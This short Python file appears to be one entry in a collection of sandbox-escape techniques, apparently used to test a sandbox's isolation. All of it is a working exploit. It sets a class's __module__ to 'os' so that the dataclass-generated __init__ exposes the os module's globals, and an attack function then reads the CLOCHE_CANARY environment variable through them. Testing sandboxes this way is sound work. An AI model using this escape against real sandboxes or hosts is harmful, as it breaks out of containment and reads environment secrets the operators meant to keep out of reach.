"""Class: class machinery. Source: own find. Escape: __module__ names os, which dataclass looks up."""

from dataclasses import dataclass


class A:
    __module__ = "os"
    x: int = 0


def attack(model, tokenizer, address):
    return dataclass(A).__init__.__globals__["environ"]["CLOCHE_CANARY"]
